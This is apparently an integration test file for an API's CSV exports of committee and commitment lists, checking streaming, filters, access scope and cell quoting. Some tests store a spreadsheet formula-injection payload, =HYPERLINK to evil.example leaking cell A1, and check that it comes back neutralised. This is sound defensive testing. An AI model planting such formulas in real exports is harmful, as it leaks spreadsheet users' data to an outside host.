import type { Response } from 'supertest';
import { createApiClient, createUser, type Actor } from '../support/actors.js';
import { csvObjects } from '../support/csv.js';
import { RegistryFactory, type Ref } from '../support/registry-factory.js';
import { WorkFactory } from '../support/work-factory.js';
import { createTestApp, type TestApp } from '../support/test-app.js';
import { sql } from '../support/test-database.js';
import { expectProblem } from '../support/problems.js';

/** The raw bytes of a response, whatever its type (supertest would decode text). */
const raw = (res: Response) => res.body as Buffer;
/** A supertest parser that keeps the body as bytes. */
function binary(res: NodeJS.ReadableStream, done: (error: Error | null, body: Buffer) => void): void {
  const chunks: Buffer[] = [];
  res.on('data', (chunk: Buffer) => chunks.push(chunk));
  res.on('end', () => done(null, Buffer.concat(chunks)));
}

/** Every item of a JSON list, page after page. */
async function allPages(t: TestApp, actor: Actor, url: string): Promise<Record<string, unknown>[]> {
  const items: Record<string, unknown>[] = [];
  let next: string | null = url;
  while (next) {
    const res: Response = await t.http().get(next).set(actor.headers);
    expect(res.status).toBe(200);
    items.push(...(res.body as { items: Record<string, unknown>[] }).items);
    const cursor: string | null = (res.body as { nextCursor: string | null }).nextCursor;
    next = cursor ? `${url}${url.includes('?') ? '&' : '?'}cursor=${encodeURIComponent(cursor)}` : null;
  }
  return items;
}

const ARABIC_TITLE = 'تبادل المعلومات عن شبكات التهريب عبر الحدود';
const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"انقر هنا")';

describe('CSV exports of the lists', () => {
  let t: TestApp;
  let admin: Actor;
  let secretary: Actor;
  let lb: Ref;
  let sy: Ref;
  let own: Ref;
  let other: Ref;
  let arabic: Ref;

  beforeAll(async () => {
    t = await createTestApp();
    admin = await createUser(t, 'admin');
    const f = new RegistryFactory(t, admin);
    [lb, sy] = [await f.party(), await f.party()];
    own = await f.committee([lb.id, sy.id]);
    other = await f.committee([lb.id, sy.id]);
    secretary = await createUser(t, 'secretary');
    const w = new WorkFactory(t, secretary, f);
    await w.seatSecretary(own.id, lb.id);
    await w.seatSecretary(other.id, lb.id);
    arabic = await w.commitment(own.id, lb.id, { title: ARABIC_TITLE, description: HYPERLINK });
    await w.commitment(other.id, lb.id, { title: 'Another committee' });
    // 450 more in `own`, written directly: every third in progress (150), the rest pending (300).
    await sql(
      t.db.url,
      `INSERT INTO commitments (version, committee_id, owner_party_id, title, status, due_on)
       SELECT 1, $1, $2, 'Bulk ' || g, CASE WHEN g % 3 = 0 THEN 'in_progress' ELSE 'pending' END::commitment_status,
              date '2030-01-01' + g
         FROM generate_series(1, 450) g`,
      [own.id, lb.id],
    );
  });

  afterAll(() => t.close());

  it('streams the whole result (451 rows, more than two batches) with a BOM, a header row and the JSON fields', async () => {
    const res = await t
      .http()
      .get(`/api/v1/committees/${own.id}/commitments?format=csv&limit=5`)
      .set(secretary.headers)
      .buffer(true)
      .parse(binary as unknown as (res: Response, callback: (err: Error | null, body: unknown) => void) => void);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="commitments-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.headers.vary).toContain('Accept');
    expect(raw(res).subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const { header, rows } = csvObjects(raw(res).toString('utf8'));
    expect(header).toEqual([
      'id',
      'committeeId',
      'ownerPartyId',
      'ownerPartyCode',
      'agencyId',
      'title',
      'description',
      'issueAreaId',
      'dueOn',
      'progress',
      'status',
      'overdue',
      'dueInDays',
      'risk',
      'sourceDecisionId',
      'createdAt',
      'updatedAt',
      'version',
    ]);
    expect(rows).toHaveLength(451);
    expect(new Set(rows.map((r) => r.id)).size).toBe(451);
    // The order of the JSON pages (dueOn, then id), row for row.
    const json = await allPages(t, secretary, `/api/v1/committees/${own.id}/commitments?limit=200`);
    expect(rows.map((r) => r.id)).toEqual(json.map((item) => item.id));
    const bulk = rows.find((r) => r.title === 'Bulk 7')!;
    expect(bulk).toMatchObject({
      status: 'pending',
      dueOn: '2030-01-08',
      progress: '0',
      overdue: 'false',
      agencyId: '',
    });
    expect(bulk.createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
  });

  it('applies the same filters as the JSON list (status=in_progress: 150 of 451)', async () => {
    const res = await t
      .http()
      .get(`/api/v1/committees/${own.id}/commitments?status=in_progress`)
      .set({
        ...secretary.headers,
        accept: 'text/csv',
      });
    expect(res.status).toBe(200);
    const { rows } = csvObjects(res.text);
    expect(rows).toHaveLength(150);
    expect(new Set(rows.map((r) => r.status))).toEqual(new Set(['in_progress']));
  });

  it('round-trips an Arabic title and neutralises a formula (=HYPERLINK comes back as text)', async () => {
    const res = await t.http().get(`/api/v1/committees/${own.id}/commitments?format=csv`).set(secretary.headers);
    const row = csvObjects(res.text).rows.find((r) => r.id === arabic.id)!;
    expect(row.title).toBe(ARABIC_TITLE);
    expect(row.description).toBe(`'${HYPERLINK}`);
  });

  it('neutralises every cell that starts with =, +, - or @ (and only those)', async () => {
    const f = new RegistryFactory(t, admin);
    // (Tab and carriage return at the start: csv-cells.spec.ts; stored text never starts with them.)
    const starts = ['=1+1', '+1', '-1', '@SUM(A1)', 'plain', "'quoted", 'a=b'];
    const people = [];
    for (const start of starts) people.push(await f.person(lb.id, { rankTitle: start }));
    const res = await t.http().get(`/api/v1/people?format=csv&partyId=${lb.id}`).set(admin.headers);
    const byId = new Map(csvObjects(res.text).rows.map((r) => [r.id, r.rankTitle]));
    expect(people.map((p) => byId.get(p.id))).toEqual(["'=1+1", "'+1", "'-1", "'@SUM(A1)", 'plain', "'quoted", 'a=b']);
  });

  it('answers JSON unless asked: Accept */* or application/json, and format=json over Accept: text/csv', async () => {
    for (const headers of [{}, { accept: '*/*' }, { accept: 'application/json, text/csv;q=0.5' }]) {
      const res = await t
        .http()
        .get(`/api/v1/committees/${own.id}/commitments`)
        .set({ ...secretary.headers, ...headers });
      expect(res.headers['content-type']).toMatch(/^application\/json/);
      expect(res.headers.vary).toContain('Accept');
    }
    const forced = await t
      .http()
      .get(`/api/v1/committees/${own.id}/commitments?format=json`)
      .set({ ...secretary.headers, accept: 'text/csv' });
    expect(forced.headers['content-type']).toMatch(/^application\/json/);
    expect((forced.body as { items: unknown[] }).items).toHaveLength(50);
  });

  it('refuses another format with 400 naming format', async () => {
    const res = await t.http().get(`/api/v1/committees/${own.id}/commitments?format=xml`).set(secretary.headers);
    expectProblem(res, 400, 'VALIDATION_FAILED');
    expect(res.body.errors).toEqual([{ field: 'format', message: 'must be one of json, csv' }]);
  });

  it('keeps the scope: a committee out of sight is 404 as in JSON, and the committees CSV lists only those in scope', async () => {
    const client = await createApiClient(t, { committeeIds: [own.id] });
    const outside = await t.http().get(`/api/v1/committees/${other.id}/commitments?format=csv`).set(client.headers);
    expectProblem(outside, 404, 'NOT_FOUND');
    const inside = await t.http().get(`/api/v1/committees/${own.id}/commitments?format=csv`).set(client.headers);
    expect(csvObjects(inside.text).rows).toHaveLength(451);
    const committees = await t.http().get('/api/v1/committees?format=csv').set(client.headers);
    expect(csvObjects(committees.text).rows.map((r) => r.id)).toEqual([own.id]);
    // Arrays of records as compact JSON.
    const parties = JSON.parse(csvObjects(committees.text).rows[0]!.parties!) as { id: string }[];
    expect(parties.map((p) => p.id).sort()).toEqual([lb.id, sy.id].sort());
  });

  it('serves every CSV list (committees, people, meetings, assignments, commitments, both timelines, audit) with the JSON list’s rows', async () => {
    const w = new WorkFactory(t, secretary, new RegistryFactory(t, admin));
    const meeting = await w.meeting(own.id);
    const person = await new RegistryFactory(t, admin).person(lb.id);
    await new RegistryFactory(t, admin).member(own.id, person.id, 'liaison_officer');
    const assignment = await w.assignment(own.id, [person.id]);
    for (const body of ['First note', 'Second note'])
      expect(
        (await t.http().post(`/api/v1/assignments/${assignment.id}/updates`).set(secretary.headers).send({ body }))
          .status,
      ).toBe(201);
    expect(
      (await t.http().post(`/api/v1/commitments/${arabic.id}/updates`).set(secretary.headers).send({ body: 'Done' }))
        .status,
    ).toBe(201);
    await t.sequenceLog();
    const lists = [
      { url: '/api/v1/committees', file: 'committees', count: 2 },
      { url: `/api/v1/people?committeeId=${own.id}`, file: 'people', count: 2 },
      { url: `/api/v1/committees/${own.id}/meetings`, file: 'meetings', count: 1 },
      { url: `/api/v1/committees/${own.id}/assignments`, file: 'assignments', count: 1 },
      { url: `/api/v1/committees/${other.id}/commitments`, file: 'commitments', count: 1 },
      { url: `/api/v1/assignments/${assignment.id}/updates`, file: 'assignment-updates', count: 2 },
      { url: `/api/v1/commitments/${arabic.id}/updates`, file: 'commitment-updates', count: 1 },
      { url: '/api/v1/audit?entity=updates', file: 'audit-events', count: 3 },
    ];
    for (const list of lists) {
      const res = await t
        .http()
        .get(list.url)
        .set({ ...admin.headers, accept: 'text/csv' });
      expect([list.url, res.status, res.headers['content-disposition']]).toEqual([
        list.url,
        200,
        expect.stringContaining(`filename="${list.file}-`),
      ]);
      const { header, rows } = csvObjects(res.text);
      const json = await allPages(t, admin, list.url);
      expect([list.url, rows.length]).toEqual([list.url, list.count]);
      expect(rows.map((r) => r.id ?? r.seq)).toEqual(json.map((item) => item.id ?? item.seq));
      // The documented fields, in order: every field the JSON item has among them.
      expect(Object.keys(json[0]!).filter((k) => !header.includes(k))).toEqual([]);
    }
    // The meeting's nested decisions (none yet) as JSON text.
    const meetings = await t.http().get(`/api/v1/committees/${own.id}/meetings?format=csv`).set(admin.headers);
    expect(csvObjects(meetings.text).rows[0]).toMatchObject({ id: meeting.id, decisions: '[]' });
  });

  it('a HEAD answers the CSV headers without a body', async () => {
    const res = await t.http().head(`/api/v1/committees/${own.id}/commitments?format=csv`).set(secretary.headers);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
  });

  it("records an API client's use at the end of a long export too (lastUsedAt)", async () => {
    const client = await createApiClient(t, { committeeIds: [own.id] });
    // The export's start is made to look more than a minute old: the first write of
    // last_used_at (at authentication) is moved back two minutes by a trigger, as if the
    // download had been running since then. Only a use recorded at its end brings it back.
    await sql(
      t.db.url,
      `CREATE TABLE test_touches (n int NOT NULL); INSERT INTO test_touches VALUES (0);
       CREATE FUNCTION test_age_first_touch() RETURNS trigger LANGUAGE plpgsql AS $$
       BEGIN
         UPDATE test_touches SET n = n + 1;
         IF (SELECT n FROM test_touches) = 1 THEN NEW.last_used_at := now() - interval '2 minutes'; END IF;
         RETURN NEW;
       END $$;
       CREATE TRIGGER test_age_first_touch BEFORE UPDATE OF last_used_at ON api_clients
         FOR EACH ROW WHEN (NEW.id = '${client.id}') EXECUTE FUNCTION test_age_first_touch();`,
    );
    try {
      const res = await t.http().get(`/api/v1/committees/${own.id}/commitments?format=csv`).set(client.headers);
      expect(res.status).toBe(200);
      const [row] = await sql<{ touches: number; recent: boolean }>(
        t.db.url,
        `SELECT (SELECT n FROM test_touches) AS touches, last_used_at > now() - interval '1 minute' AS recent
           FROM api_clients WHERE id = $1`,
        [client.id],
      );
      expect(row).toEqual({ touches: 2, recent: true });
    } finally {
      await sql(
        t.db.url,
        'DROP TRIGGER test_age_first_touch ON api_clients; DROP FUNCTION test_age_first_touch(); DROP TABLE test_touches',
      );
    }
  });

  it('quotes a cell holding a line break (CRLF, LF or CR alone): no row ends inside it, no forged row starts there', async () => {
    // Last: its committee would change the counts of the tests above.
    const f = new RegistryFactory(t, admin);
    // A secretary of its own (a WorkFactory links its user to a new person: new seats).
    const writer = await createUser(t, 'secretary');
    const w = new WorkFactory(t, writer, f);
    const committee = await f.committee([lb.id, sy.id]);
    await w.seatSecretary(committee.id, lb.id);
    const texts = ['line one\nline two', 'x\n=HYPERLINK("https://evil.example")', 'a\rb', 'c\r\nd', 'e\n\nf'];
    const made = [];
    for (const description of texts) made.push(await w.commitment(committee.id, lb.id, { description }));
    const res = await t.http().get(`/api/v1/committees/${committee.id}/commitments?format=csv`).set(writer.headers);
    const { header, rows } = csvObjects(res.text);
    expect(rows.map((r) => Object.keys(r).length)).toEqual(made.map(() => header.length));
    const byId = new Map(rows.map((r) => [r.id, r.description]));
    expect(made.map((c) => byId.get(c.id))).toEqual(texts);
    // Each quoted whole (the reader above would take a lone CR inside an unquoted cell too).
    for (const text of texts) expect(res.text).toContain(`"${text.replaceAll('"', '""')}"`);
  });
});
